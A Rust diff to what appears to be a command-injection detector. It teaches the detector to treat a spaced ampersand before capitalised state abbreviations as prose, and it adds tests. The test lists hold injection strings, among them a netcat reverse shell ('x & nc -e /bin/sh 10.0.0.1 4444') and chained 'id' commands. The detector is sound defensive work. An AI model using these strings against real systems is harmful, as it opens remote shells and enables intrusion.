@@ -971,7 +971,7 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         }
     }
     if s.paranoia >= 2 || s.has(SEPARATORS | class::BACKSLASH) {
-        if let Some(h) = chains(b, s.paranoia) {
+        if let Some(h) = chains(b, s.text.as_bytes(), s.paranoia) {
             return Some(h);
         }
     }
@@ -1964,7 +1964,8 @@ fn escaped_markup(b: &[u8]) -> bool {
     })
 }
 
-fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
+/// `text` is the value with its case (`b` lowercased), for what only case tells.
+fn chains(b: &[u8], text: &[u8], paranoia: u8) -> Option<Hit> {
     let mut i = 0;
     let mut multiline = None;
     let mut words = None;
@@ -2073,7 +2074,8 @@ fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
             // (`&#&#…`) must not pay a look-back at each.
             let prose = paranoia < 2
                 && match c {
-                    b';' | b'|' | b'&' | b'\\' => sentence(b, i, after),
+                    b'&' => sentence(b, i, after) || capitals_after_ampersand(text, i),
+                    b';' | b'|' | b'\\' => sentence(b, i, after),
                     b'`' => {
                         inline_code(b, i, h.end)
                             && *words.get_or_insert_with(|| plain_words(b) >= 3)
@@ -2100,6 +2102,24 @@ static CHAIN_BYTES: [bool; 256] = {
     }
     t
 };
+
+/// A spaced `&` before a word of two or three capitals (`Raleigh & NC`, `Charlotte, NC & SC`,
+/// `Boise & ID - Payette`): an abbreviation in prose. Lambda's shell is Linux's, where command
+/// names are case-sensitive: `NC`, `SC` and `ID` run nothing.
+fn capitals_after_ampersand(text: &[u8], amp: usize) -> bool {
+    let spaced = amp > 0 && text[amp - 1] == b' ' && text.get(amp + 1) == Some(&b' ');
+    let word = text[(amp + 2).min(text.len())..]
+        .iter()
+        .take_while(|c| c.is_ascii_alphabetic())
+        .count();
+    let after = text.get(amp + 2 + word);
+    spaced
+        && (2..=3).contains(&word)
+        && text[amp + 2..amp + 2 + word]
+            .iter()
+            .all(u8::is_ascii_uppercase)
+        && after.is_none_or(|c| matches!(c, b' ' | b',' | b'.' | b')' | b'/'))
+}
 
 /// Words on both sides of a separator, the command followed by two plain words, make a
 /// sentence (`wget is a tool; curl is another.`), not a command line: arguments are options,
@@ -2933,6 +2953,8 @@ mod tests {
             ";time id",
             ";nice -n 5 cat /etc/x",
             ";if true;then id;fi",
+            "x & nc -e /bin/sh 10.0.0.1 4444",
+            "a & id",
             // A command that closes the value, or one with an argument, inside a record.
             "1;id;",
             "1;id",
@@ -2972,6 +2994,10 @@ mod tests {
     fn prose_passes() {
         for b in [
             "costs nothing; free",
+            // State abbreviations after a spaced `&`: Linux runs no `NC` or `SC`.
+            "Raleigh & NC - Durham",
+            "Charlotte, NC & SC",
+            "LC & NC - Boys038-XL.jpg",
             // Delimited records: a European CSV header and line, tags.
             "name;id;email",
             "2024-05-01;42;cat;food",
